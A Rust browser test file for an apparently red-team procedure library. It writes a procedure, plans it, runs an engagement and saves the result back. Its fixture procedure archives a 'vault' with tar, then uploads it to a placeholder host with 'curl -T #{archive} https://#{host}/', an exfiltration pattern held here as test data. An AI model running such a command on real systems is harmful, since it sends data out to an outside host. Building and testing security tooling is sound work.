//! A team's own procedure: written with two commands and three inputs, put into a test plan, run, and what
//! was learned saved back.

use fantoccini::key::Key;

use super::Hand;
use super::chromium::Chromium;
use crate::harness::TestApp;
use crate::harness::fixtures::OWN;

/// Everything, without scripts.
pub fn a_procedure_is_written_planned_and_run(app: &TestApp, lead: &mut impl Hand) {
    written(app, lead);
    planned(lead);
    run_and_saved_back(app, lead);
}

/// Everything, with the keyboard alone where the plan is made.
pub fn a_procedure_is_written_planned_by_keyboard_and_run(app: &TestApp, mut lead: Chromium) {
    written(app, &mut lead);
    planned_by_keyboard(&mut lead);
    run_and_saved_back(app, &mut lead);
}

fn written(app: &TestApp, lead: &mut impl Hand) {
    lead.sign_in(&app.people.lead);
    lead.open("/library/repositories");
    lead.click("New repository");
    lead.see("You are its first editor");
    lead.fill("Name", "Harbour lab");
    lead.fill("Prefix", "hlf");
    lead.check("Managed");
    lead.press("Create repository");
    lead.see("Repository created");
    lead.click("New procedure");
    lead.see("Expected from blue");
    lead.choose("Repository", "Harbour lab");
    lead.fill("Name", "Send the vault away");
    lead.fill("Text of step 1", "Read it.");
    lead.fill("Command of step 1", "tar cf #{archive} #{vault}");
    lead.press("Step");
    lead.see("of step 2");
    lead.fill("Text of step 2", "Send it.");
    lead.fill("Command of step 2", "curl -T #{archive} https://#{host}/");
    lead.press("Move up: step 2");
    lead.holds("Command of step 1", "curl -T #{archive} https://#{host}/");
    lead.press("Move down: Send it.");
    lead.holds("Command of step 1", "tar cf #{archive} #{vault}");
    lead.holds("Text of step 2", "Send it.");
    lead.save();
    lead.see("HLF-1 created");
    for name in ["archive", "vault", "host"] {
        lead.see(name);
    }
    let body = app.texts(
        "SELECT v.body ->> 'steps' FROM library_procedures p JOIN library_procedure_versions v \
            ON v.procedure_id = p.id AND v.n = p.current_version WHERE p.name = 'Send the vault away'",
    );
    assert_eq!(body.len(), 1);
    assert!(body[0].find("Read it.") < body[0].find("Send it."), "{body:?}");
    let inputs = app.count(
        "SELECT jsonb_array_length(v.body -> 'inputs') FROM library_procedures p \
            JOIN library_procedure_versions v ON v.procedure_id = p.id WHERE p.name = 'Send the vault away'",
    );
    assert_eq!(inputs, 3);
}

fn planned(lead: &mut impl Hand) {
    lead.open("/test-plans/new");
    lead.fill("Title", "Vault week");
    lead.fill("Search", "vault");
    lead.press("Filter");
    lead.press("Add Send the vault away");
    lead.see("1 chosen");
    lead.save();
    lead.see("Vault week");
    lead.see("Send the vault away");
}

/// From the list of plans to the saved plan without a mouse.
fn planned_by_keyboard(lead: &mut Chromium) {
    lead.open("/test-plans");
    lead.see("New Test Plan");
    tab_to(lead, "a[href='/test-plans/new']");
    lead.key(Key::Enter);
    lead.see_focus("#title");
    lead.type_in("Vault week");
    tab_to(lead, "#filters input[name=q]");
    lead.type_in("vault away");
    // The list follows the letters, and the focus stays where one types.
    lead.until(
        "the one hit",
        "return document.querySelectorAll('#picker button[id^=pick-]').length === 1 || null;",
        &[],
    );
    lead.see_focus("#filters input[name=q]");
    tab_to(lead, "button[id^=pick-]");
    lead.key(Key::Enter);
    lead.see("1 chosen");
    lead.see_focus("button[id^=pick-]");
    lead.save();
    lead.see("“Vault week” created.");
    lead.see("Send the vault away");
}

/// Presses Tab until the focus is there.
fn tab_to(lead: &Chromium, css: &str) {
    for _ in 0..60 {
        lead.key(Key::Tab);
        let is_there = "return {is: document.activeElement.matches(arguments[0])};";
        let answer = lead.until("the focus", is_there, &[serde_json::json!(css)]);
        if answer["is"] == true {
            return;
        }
    }
    panic!("sixty stops, and none is {css}");
}

/// An engagement from the plan, its one procedure run, and the better words back into the library.
fn run_and_saved_back(app: &TestApp, lead: &mut impl Hand) {
    lead.click("Start engagement");
    lead.choose("Client", OWN);
    lead.press("Next: Engagement Details");
    lead.see("Operators");
    lead.fill("Title", "Vault night");
    lead.press("Next: Select Procedures");
    lead.see("Selected 1");
    lead.press("Next: Finalize");
    lead.press("Create Engagement");
    lead.see("0 of 1");
    lead.click("Send the vault away");
    lead.see("1 of 1");
    lead.press("Start");
    lead.holds_something("executed_at");
    lead.fill("Attack source", "ws-014");
    lead.choose("red_outcome", "Success");
    lead.fill("recommendation", "Watch what #{host} receives.");
    lead.save();
    lead.see_not("Unsaved changes");
    lead.see("Saved");
    lead.click("Save as library procedure");
    lead.see("Version 2 of HLF-1");
    lead.see("Watch what");
    lead.press("Save in the library");
    lead.see("HLF-1");
    let stored = "SELECT v.n || ' ' || (v.body ->> 'recommendation') FROM library_procedures p \
        JOIN library_procedure_versions v ON v.procedure_id = p.id AND v.n = p.current_version \
        WHERE p.name = 'Send the vault away'";
    lead.stores(app, stored, &["2 Watch what #{host} receives."]);
    lead.open("/test-plans");
    lead.click("Vault week");
    lead.see("version 1 → 2");
}
